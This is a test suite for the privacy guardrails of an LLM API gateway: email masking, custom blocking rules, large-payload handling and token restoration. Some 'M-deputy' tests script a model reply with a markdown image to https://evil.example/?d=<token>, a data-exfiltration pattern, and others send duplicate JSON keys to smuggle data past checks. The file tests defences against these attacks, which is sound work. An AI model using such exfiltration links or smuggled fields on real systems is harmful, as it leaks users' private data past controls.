import { setTimeout } from 'node:timers/promises';

import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';

import { startGateway, type Gateway } from './support/gateway.js';
import { addAccount, addTenant, aMessage, call } from './support/setup.js';
import { startUpstream, type Upstream } from './support/upstream.js';

/** Nothing that a caller sends gets past the guardrails, stops them, or makes them slow for others. */
let gateway: Gateway;
let upstream: Upstream;
let accountId: string;
let tenant: { id: string; apiKey: string; headers: Record<string, string> };

const mail = 'bob.secret@corp-internal.com';

beforeAll(async () => {
  upstream = await startUpstream();
  gateway = await startGateway();
  accountId = (await addAccount(gateway, upstream)).id;
  await gateway.must('PUT', '/api/privacy', { enabled: true });
  tenant = await addTenant(gateway, [accountId]);
});
afterAll(async () => {
  await gateway.stop();
  await upstream.stop();
});
beforeEach(() => {
  upstream.requests.length = 0;
});

const ask = (body: object, headers: Record<string, string> = {}) =>
  call(gateway, '/v1/messages', body, { ...tenant.headers, ...headers });
/** Sends a body as it is written. */
const send = (path: string, body: string) =>
  fetch(gateway.proxyUrl + path, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...tenant.headers },
    body,
  });

describe('names that occur twice', () => {
  it.each([
    ['/v1/messages', `{"model":"m","max_tokens":9,"messages":[@]}`],
    ['/v1/chat/completions', `{"model":"m","messages":[@]}`],
    ['/v1/responses', `{"model":"m","input":[@]}`],
    ['/v1/messages/count_tokens', `{"model":"m","messages":[@]}`],
    ['/v1/embeddings', `{"model":"m","input":["x"],"y":@}`],
  ])('M7: %s refuses a message with two contents and sends neither', async (path, template) => {
    const message = `{"role":"user","content":"${mail}","content":"nothing here"}`;
    const response = await send(path, template.replace('@', message));

    expect(response.status).toBe(400);
    expect(await response.text()).toContain('content');
    expect(upstream.requests).toHaveLength(0);
  });

  it('M7: two models or output limits are refused while the guardrails are off', async () => {
    const open = await addTenant(gateway, [accountId], { privacyEnabled: false });
    for (const field of ['"model":"claude-opus-4-6"', '"max_tokens":30000', '"mod\\u0065l":"x"']) {
      const body = JSON.stringify(aMessage()).replace('{', `{${field},`);
      const response = await fetch(`${gateway.proxyUrl}/v1/messages`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...open.headers },
        body,
      });

      expect(response.status).toBe(400);
    }
    expect(upstream.requests).toHaveLength(0);
  });
});

describe('a running session', () => {
  it('M13: gets a new custom rule and a mode changed to block with its next request', async () => {
    const session = { 'x-session-id': 'forever' };
    const saying = (text: string) => aMessage({ messages: [{ role: 'user', content: text }] });
    expect((await ask(saying('Bluebird is late'), session)).status).toBe(200);
    expect((await ask(saying(`write to ${mail}`), session)).status).toBe(200);

    const rule = await gateway.must('POST', '/api/guardrails/custom', {
      name: 'Projects',
      category: 'project',
      words: ['Bluebird'],
    });
    expect((await ask(saying('Bluebird is late'), session)).status).toBe(200);
    expect(upstream.requests.at(-1)!.body).not.toContain('Bluebird');

    await gateway.must('PUT', '/api/guardrails/email', { mode: 'block', tenantId: tenant.id });
    const refused = await ask(saying(`write to ${mail}`), session);
    expect(refused.status).toBe(400);
    expect(await refused.text()).toContain('email');

    await gateway.must('PUT', '/api/guardrails/email', { mode: null, tenantId: tenant.id });
    await gateway.must('DELETE', `/api/guardrails/custom/${rule.id}`);
    expect((await ask(saying(`write to ${mail}`), session)).status).toBe(200);
    expect(upstream.requests.at(-1)!.body).not.toContain(mail);
  });
});

describe('large requests', () => {
  const dense = (bytes: number, prefix = '') => {
    const line = (index: number) => `${prefix}u${index}@acme.io logged in\n`;
    return Array.from({ length: bytes / line(100_000).length }, (_, index) => line(index)).join('');
  };
  const saying = (text: string) => aMessage({ messages: [{ role: 'user', content: text }] });
  /** Runs work and returns the worst latency of the health route meanwhile. */
  const worstLatencyDuring = async (work: Promise<unknown>) => {
    const state = { isDone: false };
    const end = work.finally(() => (state.isDone = true));
    let worstMs = 0;
    while (!state.isDone) {
      const startMs = performance.now();
      await (await fetch(`${gateway.proxyUrl}/health`)).text();
      worstMs = Math.max(worstMs, performance.now() - startMs);
      await setTimeout(5);
    }
    await end;
    return worstMs;
  };

  // On a quiet machine the worst latency is below 50 ms; the same work on the event loop takes some seconds there.
  const busyMachineMs = 1_000;

  it('M10: 3 MB of values in one message do not block the event loop', async () => {
    const large = ask(saying(dense(3_000_000)));
    expect(await worstLatencyDuring(large)).toBeLessThan(busyMachineMs);

    expect((await large).status).toBe(200);
    expect(upstream.requests.at(-1)!.body).not.toContain('@acme.io');
  });

  it('M10: embeddings of 3 MB do not block the event loop', async () => {
    const input = Array.from({ length: 3 }, (_, index) => dense(1_000_000, `n${index}.`));
    const large = call(gateway, '/v1/embeddings', { model: 'm', input }, tenant.headers);
    expect(await worstLatencyDuring(large)).toBeLessThan(busyMachineMs);

    await large;
    expect(upstream.requests.at(-1)!.url).toContain('embeddings');
    expect(upstream.requests.at(-1)!.body).not.toContain('@acme.io');
  });

  it("M10: another tenant's request does not wait for a large one", async () => {
    const other = await addTenant(gateway, [accountId]);
    const state = { isDone: false };
    const large = ask(saying(dense(3_000_000, 'w'))).finally(() => (state.isDone = true));
    const small = await call(gateway, '/v1/messages', saying(dense(200_000, 'v')), other.headers);

    expect(small.status).toBe(200);
    expect(state.isDone).toBe(false);
    expect((await large).status).toBe(200);
  });

  it('M10: what cannot be checked in time is refused in the dialect and not sent', async () => {
    const strict = await startGateway({ env: { GUARDRAIL_TIMEOUT_MS: '1' } });
    try {
      await strict.must('PUT', '/api/privacy', { enabled: true });
      const account = await addAccount(strict, upstream);
      const { headers } = await addTenant(strict, [account.id]);
      const response = await call(strict, '/v1/messages', saying(dense(500_000)), headers);

      expect(response.status).toBe(413);
      expect(await response.json()).toMatchObject({
        type: 'error',
        error: { type: 'request_too_large', message: expect.stringContaining('was not sent') },
      });
      expect(upstream.requests).toHaveLength(0);
      expect((await call(strict, '/v1/messages', aMessage(), headers)).status).toBe(200);
    } finally {
      await strict.stop();
    }
  });
});

describe('restoring', () => {
  const modelSays = (write: (token: string) => string, input?: object) => {
    upstream.answer((request, response) => {
      const token = /cgm[0-9a-z]+@cg\.test/.exec(request.body)?.[0] ?? '';
      const content = [
        { type: 'text', text: write(token) },
        ...(input ? [{ type: 'tool_use', id: 't', name: 'f', input: { to: token } }] : []),
      ];
      const usage = { input_tokens: 1, output_tokens: 1 };
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(
        JSON.stringify({
          ...{ id: 'm', type: 'message', role: 'assistant', model: 'm', usage, content },
          stop_reason: 'end_turn',
        }),
      );
    });
  };
  const answerTo = async (content: string, headers = tenant.headers) => {
    const body = aMessage({ messages: [{ role: 'user', content }] });
    return (await (await call(gateway, '/v1/messages', body, headers)).json()) as {
      content: { text?: string; input?: unknown }[];
    };
  };

  it('M-deputy: does not put a value into an image of a host that the model chose', async () => {
    modelSays((token) => `${token} ![x](https://evil.example/?d=${token})`);
    const { content } = await answerTo(`I am ${mail}`);

    expect(content[0]!.text).toMatch(/^bob\.secret@corp-internal\.com !\[x\]\(https:\/\/evil/);
    expect(content[0]!.text!.split(mail)).toHaveLength(2);
  });

  it('M-deputy: restores in the URL of a host that the user or the admin named', async () => {
    modelSays((token) => `https://crm.example/?d=${token}`);
    expect((await answerTo(`${mail} https://crm.example/`)).content[0]!.text).toContain(mail);
    expect((await answerTo(`only ${mail}`)).content[0]!.text).not.toContain(mail);

    const setting = { restoreHosts: ['crm.example'], tenantId: tenant.id };
    const updated = await gateway.must('PUT', '/api/guardrails/email', setting);
    expect(updated.restoreHosts).toEqual(['crm.example']);
    expect((await answerTo(`only ${mail}`)).content[0]!.text).toContain(mail);
    const reset = { restoreHosts: null, tenantId: tenant.id };
    await gateway.must('PUT', '/api/guardrails/email', reset);
  });

  it('M-deputy: does not restore a token that the request does not hold', async () => {
    let known = '';
    modelSays((token) => (known ||= token));
    await answerTo(`I am ${mail}`);
    modelSays(() => known);

    expect((await answerTo('who am I?')).content[0]!.text).toBe(known);
    expect((await answerTo(`who is ${known}?`)).content[0]!.text).toBe(mail);
  });

  it.each([
    ['text', [mail, expect.stringContaining('cg.test')]],
    ['arguments', [expect.stringContaining('cg.test'), mail]],
    [null, [mail, mail]],
  ])('M-deputy: restores in %s only, as the admin says', async (restore, [text, to]) => {
    modelSays((token) => token, {});
    await gateway.must('PUT', '/api/guardrails/email', { restore, tenantId: tenant.id });

    const { content } = await answerTo(`I am ${mail}`);
    expect(content).toMatchObject([{ text }, { input: { to } }]);
  });
});
